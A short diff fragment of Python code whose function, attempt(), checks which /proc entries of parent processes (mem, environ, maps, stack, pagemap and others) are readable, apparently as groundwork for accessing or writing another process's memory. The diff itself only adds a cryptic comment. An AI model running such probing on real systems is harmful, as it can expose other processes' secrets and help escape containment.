@@ -13,7 +13,7 @@ def attempt():
     ways = []
     page = ctypes.create_string_buffer(8)
     vector = ctypes.create_string_buffer(ctypes.addressof(page).to_bytes(8, "little") + (8).to_bytes(8, "little"), 16)
-    for process in parents():
+    for process in parents():  # what is written was read there a moment before
         for file in ("mem", "environ", "maps", "auxv", "syscall", "stack", "pagemap", "clear_refs"):
             try:
                 ways += [f"{process}/{file}"] if open(f"/proc/{process}/{file}", "rb").read(1) else []
